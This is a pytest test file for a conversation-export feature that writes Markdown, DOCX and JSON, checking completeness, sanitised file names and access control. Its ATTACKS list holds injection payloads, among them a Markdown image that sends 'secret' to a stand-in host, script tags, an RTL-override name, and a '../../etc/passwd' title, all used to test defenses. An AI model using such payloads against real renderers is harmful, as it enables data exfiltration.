"""Exports: everything that a reader needs, nothing that loads or links, and no loss in JSON."""

from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Iterator
from xml.etree import ElementTree

import pytest
from docx import Document
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.records.conversations import Conversations
from app.records.export import FORMS, Form, export
from app.records.markdown import harmless
from chains.answer import CheckedClaim, Computation, Conflict, Receipt, Side
from chains.restoring import answer_from_dict
from errors import RecordNotFoundError
from tests.records.conftest import ME, OTHERS, answer, asked

TEXT = "Every employee has 27 days [1]. Unused days are paid out."
CLAIMS = (
    CheckedClaim(
        start=0, end=31, text="Every employee has 27 days.", markers=(1,), score=0.9, verdict="supported"
    ),
    CheckedClaim(
        start=32, end=57, text="Unused days are paid out.", markers=(), score=0.1, verdict="uncited"
    ),
)
FULL = answer(
    TEXT,
    claims=CLAIMS,
    searched_for="How many days of leave?",
    notices=("Another model stood in.",),
    conflicts=(
        Conflict(
            sentence="The sources differ: Leave 2026 says 27 days [1]; Leave 2025 says 25 days [2].",
            sides=(
                Side(marker=1, document_name="Leave 2026", value="27 days", date="2026-01-01"),
                Side(marker=2, document_name="Leave 2025", value="25 days", date=None),
            ),
        ),
    ),
    computation=Computation(
        sql="SELECT sum(days)\nFROM leave",
        columns=("days | all",),
        rows=((27,), (None,)),
        row_count=3,
        tables=("leave.xlsx · A1:B9",),
    ),
    timings_ms={"total": 1234.0},
    receipt=Receipt(prompt_sha256=None, chunks=(), knowledge_base="hr", generation=1, model="m"),
)
SAID = (
    "How many days?",
    "Every employee has 27 days [1].",
    "Unused days are paid out. (not backed by a source)",
    "Leave policy · page 2 · Leave",
    "quote verified",
    "Every employee has 27 days of leave.",
    "2026-07-01 09:00 UTC · RAG · compatible:test · knowledge base hr · confidence high (90%) · 1.2 s",
    "1 of 2 statements: not backed by a source.",
    "Searched for: How many days of leave?",
    "The sources differ: Leave 2026 says 27 days [1]; Leave 2025 says 25 days [2].",
    "[2] Leave 2025: 25 days (no date known)",
    "Another model stood in.",
    "SELECT sum(days)",
    "days | all",
    "The first 2 of 3 rows.",
    "Files: plan.docx",
)


def conversation(talks: Conversations, *, question: str = "How many days?", told: object = FULL) -> str:
    talk = talks.begin(ME)
    made = talks.ask(
        ME, talk.conversation_id, question=question, mode="rag", knowledge_base="hr", files=["plan.docx"]
    )
    assert talks.finish(ME, made.latest.answer_id, told)  # type: ignore[arg-type]
    return talk.conversation_id


def written(talks: Conversations, identity: str, form: Form) -> bytes:
    return export(talks, ME, identity, form).content


def shown_by(content: bytes) -> str:
    """What a Markdown renderer shows of a file, without markup."""
    tokens = MarkdownIt("commonmark").enable("table").parse(content.decode())
    inner = [child for token in tokens for child in [token, *(token.children or [])] if not child.children]
    text = "".join(
        "\n" if (one.block and not one.content) or one.type.endswith("break") else one.content
        for one in inner
    )
    return text.replace("\u2060", "")


def text_of(content: bytes) -> str:
    body = Document(io.BytesIO(content)).element.body
    return "\n".join("".join(run.text or "" for run in one.iter(f"{W}t")) for one in body.iter(f"{W}p"))


W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


@pytest.mark.parametrize("sentence", SAID)
def test_a_reader_finds_everything(talks: Conversations, sentence: str) -> None:
    identity = conversation(talks)
    assert sentence in shown_by(written(talks, identity, "markdown"))
    assert sentence in text_of(written(talks, identity, "docx"))


@pytest.mark.parametrize("form", ["markdown", "docx"])
def test_what_was_not_answered_says_why(talks: Conversations, form: Form) -> None:
    identity = talks.begin(ME).conversation_id
    ends = [talks.ask(ME, identity, question=f"Q{n}", mode="rag", knowledge_base="kb") for n in range(4)]
    talks.fail(ME, ends[0].latest.answer_id, error="No model is connected.", text="Ha")
    talks.stop(ME, ends[1].latest.answer_id, text="Half")
    missing = answer("Not in your documents.", abstained=True, reason="Nothing says it.", citations=())
    talks.finish(ME, ends[2].latest.answer_id, missing)
    content = written(talks, identity, form)
    said = text_of(content) if form == "docx" else shown_by(content)
    for sentence in (
        "Ha",
        "Not answered: No model is connected.",
        "Half",
        "Stopped before it was complete.",
        "Not in the documents. Nothing says it.",
        "Nearest passages",
        "This answer was still being written.",
    ):
        assert sentence in said


def test_a_quote_that_was_not_found_is_said_to_be(talks: Conversations) -> None:
    from dataclasses import replace

    doubtful = replace(FULL, citations=(replace(FULL.citations[0], verified=False),))
    content = written(talks, conversation(talks, told=doubtful), "markdown")
    assert "NOT verified: this quote was not found in the document" in shown_by(content)


def test_json_loses_nothing(talks: Conversations) -> None:
    identity = conversation(talks)
    made = talks.find(ME, identity)
    assert made is not None
    talks.regenerate(ME, made.exchanges[0].exchange_id, mode="base")
    document = json.loads(written(talks, identity, "json"))
    assert (document["format"], document["version"]) == ("groundtune-conversation", 1)
    one = document["exchanges"][0]
    assert (one["question"], one["files"]) == ("How many days?", ["plan.docx"])
    assert [(each["number"], each["mode"], each["state"]) for each in one["answers"]] == (
        [(1, "rag", "done"), (2, "base", "running")]
    )
    assert answer_from_dict(one["answers"][0]["answer"]) == FULL


def test_a_number_that_json_lacks_is_null(talks: Conversations) -> None:
    odd = answer("a", timings_ms={"total": float("nan"), "read": float("inf"), "check": 1.5})
    document = json.loads(written(talks, conversation(talks, told=odd), "json"), parse_constant=pytest.fail)
    assert document["exchanges"][0]["answers"][0]["answer"]["timings_ms"] == (
        {"total": None, "read": None, "check": 1.5}
    )


# --- nothing loads, nothing links -----------------------------------------------------------------

ATTACKS = (
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example)",
    "[click][1]\n\n[1]: https://evil.example",
    "<img src=https://evil.example/x.png>",
    "<https://evil.example>",
    "see https://evil.example/x or www.evil.example",
    "mailto:me@evil.example me@evil.example",
    "<script>alert(1)</script>",
    "![x]\n[x]: https://evil.example",
    "```\n![x](https://evil.example)\n```\n![y](https://evil.example)",
    "&lt;img src=x&gt; &#33;[x](https://evil.example)",
    "\\![x](https://evil.example)",
    "| a |\n|---|\n| ![x](https://evil.example) |",
    "\u202egpj.exe https://evil.example",
)
_BARE = re.compile(r"https?://|ftp://|\bwww\.\w|[\w.+-]+@[\w-]+\.", re.IGNORECASE)


def reaching_out(markdown: str) -> Iterator[str]:
    """What a renderer would load or link: by CommonMark's rules, raw HTML on, and by GitHub's of bare addresses."""
    for token in MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown):
        for one in [token, *(token.children or [])]:
            if one.type in ("image", "link_open", "html_inline", "html_block"):
                yield f"{one.type} {one.attrs} {one.content}"
            if one.type == "text" and _BARE.search(one.content):
                yield one.content


def poisoned(text: str) -> object:
    from dataclasses import replace

    cited = replace(FULL.citations[0], document_name=text, quote=text)
    side = Side(marker=1, document_name=text, value=text, date=text)
    told = replace(
        FULL, text=text, claims=(), citations=(cited,), notices=(text,), reason=text, searched_for=text
    )
    computed = Computation(sql=text, columns=(text,), rows=((text,),), row_count=1, tables=(text,))
    return replace(
        told, conflicts=(Conflict(sentence=text, sides=(side,)),), computation=computed, model=text
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_poisoned_text_reaches_out_nowhere_in_markdown(talks: Conversations, attack: str) -> None:
    identity = conversation(talks, question=attack, told=poisoned(attack))
    content = written(talks, identity, "markdown").decode()
    assert list(reaching_out(content)) == []
    assert "evil.example" in content.replace("\u2060", "").replace("\\", "") or "script" in attack


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([*ATTACKS, "`", "```\n", "\n", " ", "a", "!", "[", "](", "<", "\\"]), max_size=6
    ).map("".join)
)
def test_no_mixture_of_attacks_reaches_out(text: str) -> None:
    assert list(reaching_out(harmless(text))) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_word_file_has_no_link_out_of_it(talks: Conversations, attack: str) -> None:
    identity = conversation(talks, question=attack, told=poisoned(attack))
    with zipfile.ZipFile(io.BytesIO(written(talks, identity, "docx"))) as package:
        names = package.namelist()
        for name in names:
            if name.endswith(".rels"):
                found = ElementTree.fromstring(package.read(name))
                assert [one.attrib for one in found if one.get("TargetMode") == "External"] == []
        body = package.read("word/document.xml")
    assert b"w:hyperlink" not in body
    assert b"w:instrText" not in body
    assert not [name for name in names if "macro" in name.lower() or "embeddings" in name]


ANYTHING = st.text(st.characters(), max_size=60)


@settings(max_examples=12, deadline=None, suppress_health_check=list(HealthCheck))
@given(ANYTHING)
def test_any_text_can_be_exported(talks: Conversations, text: str) -> None:
    identity = conversation(talks, question=text or "?", told=poisoned(text))
    for form in FORMS:
        made = export(talks, ME, identity, form)
        assert made.content
        assert re.fullmatch(r"[\w-]{1,60}\.(md|docx|json)", made.file_name), made.file_name
    Document(io.BytesIO(written(talks, identity, "docx")))


@pytest.mark.parametrize("form", list(FORMS))
def test_half_a_character_in_an_answer_does_not_keep_it_from_being_exported(
    talks: Conversations, form: Form
) -> None:
    """A server's stream may end in the middle of a pair of surrogates; JSON holds such halves."""
    identity = conversation(talks, told=poisoned("\ud83d"))
    assert export(talks, ME, identity, form).content


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("How many days?", "How-many-days.md"),
        ("../../etc/passwd", "etc-passwd.md"),
        ("?!", "conversation.md"),
        ("x" * 100, "x" * 60 + ".md"),
        ("休暇は何日", "休暇は何日.md"),
    ],
)
def test_a_file_name_is_of_letters_and_digits(talks: Conversations, title: str, name: str) -> None:
    assert export(talks, ME, conversation(talks, question=title), "markdown").file_name == name


@pytest.mark.parametrize("other", OTHERS, ids=lambda scope: f"{scope.tenant}-{scope.owner}")
@pytest.mark.parametrize("form", FORMS)
def test_nobody_exports_what_is_another_s(talks: Conversations, other: object, form: Form) -> None:
    identity = asked(talks, ME, "Secret")[0].conversation_id
    with pytest.raises(RecordNotFoundError):
        export(talks, other, identity, form)  # type: ignore[arg-type]


def test_lists_and_tables_of_an_answer_become_words_own(talks: Conversations) -> None:
    text = "Steps:\n\n1. One **bold** `code`\n2. Two\n   - inner\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    text += "\n> said\n\n1. Again"
    document = Document(io.BytesIO(written(talks, conversation(talks, told=answer(text)), "docx")))
    lines = [one.text for one in document.paragraphs]
    for line in ("1. One bold code", "2. Two", "inner", "said", "1. Again"):
        assert line in lines
    assert [[cell.text for cell in row.cells] for row in document.tables[0].rows] == [["a", "b"], ["1", "2"]]
    bold = [run.text for one in document.paragraphs for run in one.runs if run.bold]
    assert "bold" in bold
